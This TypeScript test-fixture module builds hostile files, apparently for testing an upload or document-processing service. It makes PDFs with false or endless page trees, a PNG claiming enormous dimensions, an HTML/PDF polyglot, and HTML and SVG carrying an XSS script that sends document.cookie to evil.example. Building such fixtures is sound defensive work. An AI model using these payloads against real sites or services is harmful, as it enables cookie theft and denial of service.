import { crc32, deflateSync } from "node:zlib";

const ascii = (text: string): Buffer => Buffer.from(text, "latin1");

/** A PDF of the given objects, numbered from 1, whose first one is the catalog. */
function pdf(objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [ascii("%PDF-1.7\n")];
  const offsets: number[] = [];
  for (const [index, body] of objects.entries()) {
    offsets.push(parts.reduce((sum, part) => sum + part.length, 0));
    parts.push(ascii(`${index + 1} 0 obj\n`), typeof body === "string" ? ascii(body) : body, ascii("\nendobj\n"));
  }
  const start = parts.reduce((sum, part) => sum + part.length, 0);
  const entries = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  return Buffer.concat([
    ...parts,
    ascii(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  ]);
}

const CATALOG = "<< /Type /Catalog /Pages 2 0 R >>";
const PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>";

/** Says that it has so many pages, and lists each. */
export const manyPages = (count: number): Buffer =>
  pdf([CATALOG, `<< /Type /Pages /Count ${count} /Kids [${"3 0 R ".repeat(count)}] >>`, PAGE]);

/** Says that it has a billion pages, and has one. */
export const boastfulPdf = (): Buffer => pdf([CATALOG, "<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>", PAGE]);

/** Its page tree has no end. */
export const endlessPdf = (): Buffer => pdf([CATALOG, "<< /Type /Pages /Count 5 /Kids [2 0 R 2 0 R] >>", PAGE]);

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([ascii(type), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}

/** A PNG that says it is so large, with next to nothing behind it. */
export function hugePng(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]),
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(1000))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

export const SCRIPT = "<script>fetch('https://evil.example/' + document.cookie)</script>";
export const HTML = ascii(`<!doctype html><html><body>${SCRIPT}</body></html>`);
export const SVG = ascii(
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`,
);
/** HTML to a browser that sniffs, and a PDF to a reader that looks for its header. */
export const htmlThatIsAPdf = (): Buffer => Buffer.concat([HTML, ascii("\n"), manyPages(1)]);
